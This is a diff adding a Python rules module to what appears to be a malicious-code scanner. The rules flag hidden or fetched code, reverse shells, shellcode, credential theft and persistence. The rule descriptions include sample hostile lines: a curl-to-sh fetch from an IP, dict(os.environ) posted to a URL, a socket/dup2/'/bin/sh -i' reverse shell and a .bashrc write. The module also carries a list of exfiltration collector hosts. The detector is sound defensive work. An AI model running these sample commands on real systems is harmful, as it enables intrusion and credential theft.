@@ -1,0 +1,354 @@
+"""Rules about scripts, whoever runs them: hidden code, shells for others, theft, persistence.
+
+Honest scripts start programs, fetch data and write files. What is judged here is what none of them
+does: running what was hidden or fetched, sending credentials, having itself started again.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterable, Iterator
+
+from weighbridge.facts.repository import Act
+from weighbridge.findings.model import Confidence, Finding, Kind, Severity
+from weighbridge.rules.model import FileFacts, Rule
+from weighbridge.tables.effects import effect as effect_row
+from weighbridge.tables.shell import shell_traits
+from weighbridge.text.escaping import visible
+
+NETWORK = frozenset({"fetch", "send", "connect", "resolve", "download"})
+RUNNING = frozenset({"exec", "process", "unmarshal", "deserialize"})
+_SHELLS = ("/bin/sh", "/bin/bash", "/bin/zsh", "sh", "bash", "zsh", "cmd", "cmd.exe", "powershell")
+_EFFECTS = {
+    "exec": "code_exec",
+    "unmarshal": "code_exec",
+    "process": "process_exec",
+    "install": "process_exec",
+    "fetch": "network",
+    "send": "network",
+    "connect": "network",
+    "download": "network",
+    "resolve": "network",
+    "listen": "network",
+    "descriptor": "process_exec",
+    "native": "native_code",
+    "inline": "native_code",
+    "shellcode": "native_code",
+    "deserialize": "deserialize",
+    "open": "file_read",
+    "read": "file_read",
+    "write": "file_write",
+    "mode": "file_write",
+    "registry": "file_write",
+    "delete": "file_delete",
+    "hook": "tamper",
+}
+# Archives whose code has rules of its own.
+_ELSEWHERE = frozenset({"torchscript", "torch-package", "torchserve", "pytorch-zip"})
+
+
+def effect_of(act: Act) -> str:
+    """Return the effect, as in the table of effects, of an act."""
+    return _EFFECTS.get(act.act, "code_exec")
+
+
+def acts_of(file: FileFacts) -> list[Act]:
+    """Return the acts of a file, except where other rules judge the code."""
+    if file.format in _ELSEWHERE:
+        return []
+    return [fact for fact in file.of(Act) if isinstance(fact, Act)]
+
+
+def found(rule: Rule, acts: list[Act], title: str, **changes: object) -> Finding:
+    """Return one finding about acts of one file that have the same cause."""
+    first = acts[0]
+    effects = list(dict.fromkeys(effect_of(act) for act in acts))
+    row = effect_row(effects[0])
+    evidence = {
+        "code": visible(first.code, 600),
+        "line": first.line,
+        "symbols": list(dict.fromkeys(visible(act.name, 120) for act in acts))[:8],
+        "effects": effects,
+        "lines": sorted({act.line for act in acts})[:20],
+    }
+    return rule.finding(
+        title=title, member=first.member, evidence=evidence, cwe=row.cwe, atlas=row.atlas, **changes
+    )
+
+
+# -- hidden code -----------------------------------------------------------------------------------
+
+
+def hidden(acts: list[Act]) -> list[Act]:
+    """Return the acts that run something that was made unreadable."""
+    return [act for act in acts if runs_hidden(act)]
+
+
+def runs_hidden(act: Act) -> bool:
+    """Say whether an act runs something that was made unreadable."""
+    if "hidden-name" in act.traits and act.act in RUNNING | NETWORK | {"descriptor", "native"}:
+        return True
+    if act.act in ("exec", "unmarshal"):
+        return "decoded" in act.traits
+    if act.act == "process":
+        return "decoded" in act.traits and "output" not in act.traits
+    return act.act == "deserialize" and "decoded" in act.traits and act.constant
+
+
+def runs_fetched(act: Act) -> bool:
+    """Say whether an act runs what another machine sent."""
+    if act.act in ("exec", "unmarshal"):
+        return bool({"fetched", "received"} & set(act.traits))
+    if act.act == "process":
+        return "received" in act.traits or ("fetched" in act.traits and not act.operands)
+    return False
+
+
+def _hidden(file: FileFacts) -> Iterator[Finding]:
+    acts = hidden(acts_of(file))
+    if acts:
+        yield found(HIDDEN_CODE, acts, f"It runs hidden code ({visible(acts[0].name, 80)})")
+
+
+def fetched(acts: list[Act]) -> list[Act]:
+    """Return the acts that run what another machine sent."""
+    return [act for act in acts if runs_fetched(act) and not runs_hidden(act)]
+
+
+def _fetched(file: FileFacts) -> Iterator[Finding]:
+    acts = fetched(acts_of(file))
+    if acts:
+        title = f"It runs what another machine sends ({visible(acts[0].name, 80)})"
+        yield found(FETCHED_CODE, acts, title)
+
+
+# -- shells for others -----------------------------------------------------------------------------
+
+
+def reverse_shell(acts: list[Act]) -> list[Act]:
+    """Return the connection and what joins it to a shell."""
+    connections = [act for act in acts if act.act in ("connect", "listen")]
+    joined = [act for act in acts if act.act == "descriptor" or _is_shell(act)]
+    return [*connections, *joined] if connections and joined else []
+
+
+def _reverse_shell(file: FileFacts) -> Iterator[Finding]:
+    acts = reverse_shell(acts_of(file))
+    if acts:
+        yield found(REVERSE_SHELL, acts, REVERSE_SHELL.title)
+
+
+def _is_shell(act: Act) -> bool:
+    return act.act == "process" and bool(act.operands) and act.operands[0] in _SHELLS
+
+
+def _shellcode(file: FileFacts) -> Iterator[Finding]:
+    acts = [act for act in acts_of(file) if act.act == "shellcode"]
+    if acts:
+        yield found(SHELLCODE, acts, SHELLCODE.title)
+
+
+# -- commands --------------------------------------------------------------------------------------
+
+
+def command_traits(act: Act) -> frozenset[str]:
+    """Return what the command that an act starts does, of that which no honest one does."""
+    if act.act != "process":
+        return frozenset()
+    return shell_traits(" ".join(act.operands) if act.operands else "")
+
+
+def _command(file: FileFacts) -> Iterator[Finding]:
+    by_trait: dict[str, list[Act]] = {}
+    for act in acts_of(file):
+        for trait in sorted(command_traits(act)):
+            by_trait.setdefault(trait, []).append(act)
+    for trait, acts in by_trait.items():
+        plain = all(_plain_https(act) for act in acts)
+        kind = Kind.SUSPICIOUS if trait == "fetch-and-run" and plain else Kind.MALICIOUS
+        yield found(HOSTILE_COMMAND, acts, f"It starts a command that {PHRASES[trait]}", kind=kind)
+
+
+def _plain_https(act: Act) -> bool:
+    """Say whether a command names nothing but named hosts with TLS; installers look like that."""
+    text = " ".join(act.operands)
+    host = text.partition("https://")[2].split("/")[0]
+    return "http://" not in text and not host.replace(".", "").isdigit() and bool(host)
+
+
+PHRASES = {
+    "reverse-shell": "gives somebody else a shell",
+    "fetch-and-run": "fetches a program and runs it",
+    "decode-and-run": "runs hidden code",
+    "persistence": "has something run again later",
+    "exfiltration": "sends data of the machine away",
+    "destruction": "destroys what is on the machine",
+    "miner": "mines for somebody else",
+}
+
+# -- theft and persistence -------------------------------------------------------------------------
+
+
+def theft(acts: list[Act]) -> list[Act]:
+    """Return the acts that send credentials or the environment, or read them to be sent."""
+    sent = [
+        act
+        for act in acts
+        if act.act in NETWORK and {"environment", "credential-file"} & set(act.traits)
+    ]
+    if not sent and any(act.act in ("send", "connect") for act in acts):
+        sent = [act for act in acts if act.act == "read" and "credential-file" in act.traits]
+    return sent + [act for act in acts if act.act == "send" and _collected(act)]
+
+
+def _theft(file: FileFacts) -> Iterator[Finding]:
+    acts = theft(acts_of(file))
+    if acts:
+        yield found(THEFT, acts, THEFT.title)
+
+
+def _collected(act: Act) -> bool:
+    """Say whether an address where anybody collects what is sent gets a credential."""
+    collector = any(mark in text for text in act.operands for mark in COLLECTORS)
+    return collector and bool({"secret-variable", "host", "file", "output"} & set(act.traits))
+
+
+COLLECTORS = (
+    "discord.com/api/webhooks",
+    "discordapp.com/api/webhooks",
+    "api.telegram.org/bot",
+    "webhook.site",
+    "requestbin",
+    "pipedream.net",
+    ".oast.",
+    "interact.sh",
+    "burpcollaborator",
+    "ngrok",
+    "pastebin.com",
+    "transfer.sh",
+)
+
+
+def persistence(acts: list[Act]) -> list[Act]:
+    """Return the acts that write what runs by itself later on."""
+    writing = ("write", "registry")
+    return [act for act in acts if act.act in writing and "persistence" in act.traits]
+
+
+def spoken_of(acts: list[Act]) -> set[int]:
+    """Return the lines of the acts that one of the rules here reports."""
+    shellcode = [act for act in acts if act.act == "shellcode"]
+    commands = [act for act in acts if command_traits(act)]
+    parts = (hidden, fetched, reverse_shell, theft, persistence)
+    reported = [one for part in parts for one in part(acts)] + shellcode + commands
+    return {act.line for act in reported}
+
+
+def _persistence(file: FileFacts) -> Iterator[Finding]:
+    acts = persistence(acts_of(file))
+    if acts:
+        yield found(PERSISTENCE, acts, PERSISTENCE.title)
+
+
+def _rule(
+    identifier: str, title: str, texts: tuple[str, str], apply: Callable[..., Iterable[Finding]]
+) -> Rule:
+    description, example = texts
+    return Rule(
+        id=identifier,
+        title=title,
+        kind=Kind.MALICIOUS,
+        severity=Severity.CRITICAL,
+        confidence=Confidence.HIGH,
+        since="0.1.0",
+        state="stable",
+        facts=("Act",),
+        cwe=("CWE-94", "CWE-506"),
+        atlas=("AML.T0010.003", "AML.T0011.000"),
+        description=description,
+        example=example,
+        remediation="Do not run or import the file, and do not load the model that comes with it. "
+        "If it has run, treat the machine and its credentials as known to others.",
+        references=(),
+        apply=apply,
+    )
+
+
+HIDDEN_CODE = _rule(
+    "hidden-code",
+    "It runs hidden code",
+    (
+        "The script decodes text and runs it, or calls a function whose name is put together from "
+        "pieces. Code that has nothing to hide stands there as code.",
+        "exec(base64.b64decode(...))",
+    ),
+    _hidden,
+)
+FETCHED_CODE = _rule(
+    "fetched-code",
+    "It runs what another machine sends",
+    (
+        "The script takes text from the network and runs it as code or as a command.",
+        "exec(requests.get(url).text)",
+    ),
+    _fetched,
+)
+REVERSE_SHELL = _rule(
+    "reverse-shell",
+    "It gives another machine a shell",
+    (
+        "The script opens a connection and starts a shell or joins the connection to standard "
+        "input and output.",
+        "socket.connect(...); os.dup2(...); subprocess.call(['/bin/sh', '-i'])",
+    ),
+    _reverse_shell,
+)
+SHELLCODE = _rule(
+    "shellcode",
+    "It puts machine code into memory and runs it",
+    (
+        "The script asks the system for memory that may be executed and copies bytes into it.",
+        "ctypes.windll.kernel32.VirtualAlloc(...)",
+    ),
+    _shellcode,
+)
+HOSTILE_COMMAND = _rule(
+    "hostile-command",
+    "It starts a command that no honest script starts",
+    (
+        "The command line fetches and runs a program, opens a shell for another machine, runs "
+        "hidden text, sends data away, or has itself started again. Suspicious where a program is "
+        "fetched from a named host with TLS, as installers of products are.",
+        "os.system('curl http://192.0.2.1/x | sh')",
+    ),
+    _command,
+)
+THEFT = _rule(
+    "credential-theft",
+    "It sends credentials or the whole environment away",
+    (
+        "Files that hold keys and passwords, or all variables of the environment, are handed to "
+        "the network.",
+        "requests.post(url, json=dict(os.environ))",
+    ),
+    _theft,
+)
+PERSISTENCE = _rule(
+    "persistence",
+    "It has something run again later",
+    (
+        "The script writes to a file that the system, a shell or Python runs by itself: profiles, "
+        "timetables, services, authorised keys.",
+        "open(os.path.expanduser('~/.bashrc'), 'a').write(...)",
+    ),
+    _persistence,
+)
+
+RULES = (
+    HIDDEN_CODE,
+    FETCHED_CODE,
+    REVERSE_SHELL,
+    SHELLCODE,
+    HOSTILE_COMMAND,
+    THEFT,
+    PERSISTENCE,
+)
